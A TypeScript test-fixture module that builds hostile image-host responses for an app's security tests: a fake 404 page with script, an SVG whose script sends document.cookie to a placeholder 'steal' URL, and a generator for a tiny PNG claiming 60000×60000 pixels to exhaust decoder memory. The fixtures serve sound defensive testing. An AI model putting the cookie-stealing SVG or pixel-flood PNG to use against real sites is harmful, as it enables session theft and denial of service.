import { crc32, deflateSync } from 'node:zlib'

// Image answers of a hostile (or misconfigured) image host (issue 11): a Content-Type that lies,
// an SVG with script, and a PNG whose header asks a decoder for gigabytes.

/** What a proxy or a broken host returns under `image/png`: its HTML page, or a JSON error. */
export const NOT_AN_IMAGE = {
  html: '<!DOCTYPE html><html><head><title>404 Not Found</title></head><body><h1>Not Found</h1><p>The requested image was not found on this server.</p><script>document.title = "owned"</script></body></html>',
  json: '{"statusCode":404,"message":"Image not found"}'
} as const

/**
 * An SVG drawing with active content. The markers let browser tests prove it never ran:
 * `window.__partsDeskSvgScript` (the <script>) and `window.__partsDeskSvgOnload` (the handler).
 */
export const HOSTILE_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" viewBox="0 0 800 600" onload="window.__partsDeskSvgOnload = 1">
  <script type="application/ecmascript">window.__partsDeskSvgScript = (window.__partsDeskSvgScript || 0) + 1; fetch('http://127.0.0.1:9/steal?c=' + encodeURIComponent(document.cookie))</script>
  <rect x="40" y="40" width="720" height="520" fill="none" stroke="#000" stroke-width="4"/>
  <text x="400" y="300" text-anchor="middle" font-size="32">Not a parts diagram</text>
</svg>
`

/** The pixel-flood size: 3.6 billion pixels, ~14 GB as RGBA in a decoder. */
export const FLOOD_SIDE = 60_000

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(data.length, 0)
  head.write(type, 4, 'latin1')
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0)
  return Buffer.concat([head, data, crc])
}

let flood: Buffer | undefined

/**
 * A well-formed PNG (signature, IHDR, IDAT, IEND, every CRC right) of 138 bytes whose IHDR
 * declares 60000×60000 8-bit grayscale. The IDAT holds a valid zlib stream of the first row only:
 * a decoder that trusts the header allocates for the whole image before it finds the data short.
 */
export function pixelFloodPng(): Buffer {
  if (!flood) {
    const ihdr = Buffer.alloc(13)
    ihdr.writeUInt32BE(FLOOD_SIDE, 0)
    ihdr.writeUInt32BE(FLOOD_SIDE, 4)
    ihdr[8] = 8 // bit depth
    ihdr[9] = 0 // colour type: grayscale
    // compression, filter and interlace methods stay 0
    const firstRow = Buffer.alloc(1 + FLOOD_SIDE) // filter byte 0, then one row of black pixels
    flood = Buffer.concat([
      PNG_SIGNATURE,
      chunk('IHDR', ihdr),
      chunk('IDAT', deflateSync(firstRow, { level: 9 })),
      chunk('IEND', Buffer.alloc(0))
    ])
  }
  return flood
}
